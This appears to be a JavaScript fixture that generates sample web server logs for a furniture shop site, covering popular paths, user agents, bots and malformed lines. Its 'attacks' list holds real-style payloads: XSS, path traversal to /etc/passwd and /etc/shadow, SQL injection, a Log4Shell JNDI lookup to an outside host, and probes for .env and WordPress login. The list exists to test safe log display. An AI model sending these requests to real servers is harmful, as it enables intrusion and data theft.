/**
 * What the sample web site consists of: pages by popularity, browsers, bots, and what attackers
 * try.
 */
const products = 'lamp chair desk shelf rug mirror clock vase sofa stool'.split(' ');
const topics = 'oak light wool glass care small-rooms colour repair'.split(' ');
/** Most popular first: how often the n-th is asked for falls as 1/n (Zipf). */
export const paths = [
    '/',
    '/products',
    '/assets/site.css',
    '/assets/app.js',
    '/search',
    '/cart',
    '/blog',
    '/api/stock',
    '/login',
    '/about',
    '/checkout',
    ...products.flatMap((name) => [`/products/${name}`, `/images/${name}.webp`]),
    ...topics.map((name) => `/blog/${name}`),
    ...products.flatMap((name) => [`/products/${name}/reviews`, `/api/stock/${name}`]),
    '/imprint',
    '/blog/überraschung%20im%20regal',
];
export const queries = [
    'q=oak+desk',
    'page=2',
    'utm_source=newsletter',
    'sort=price',
];
export const browsers = [
    'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ' +
        'Chrome/138.0.0.0 Safari/537.36',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 ' +
        '(KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) ' +
        'Chrome/138.0.0.0 Mobile Safari/537.36',
];
export const bots = [
    {
        ip: '66.249.66.1',
        agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    },
    {
        ip: '157.55.39.12',
        agent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    },
    { ip: '203.0.113.77', agent: 'python-requests/2.32' },
];
/** Request targets as they stand in real logs. Whatever shows them must treat them as text. */
export const attacks = [
    '/search?q=<script>alert(1)</script>',
    '/"><img src=x onerror=alert(1)>',
    '/../../../../etc/passwd',
    '/%2e%2e/%2e%2e/etc/shadow',
    "/login?user=admin'+OR+1=1--",
    '/products?id=1+UNION+SELECT+password+FROM+users',
    '/${jndi:ldap://203.0.113.9/a}',
    '/wp-login.php',
    '/.env',
];
/** Lines that no access-log format can read. */
export const malformedLines = [
    '\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03',
    '198.51.100.4 - - [not a time] "GET / HTTP/1.1" 200 12',
    'nginx: worker process exited on signal 9',
    '198.51.100.23 - - [',
];
//# sourceMappingURL=site.js.map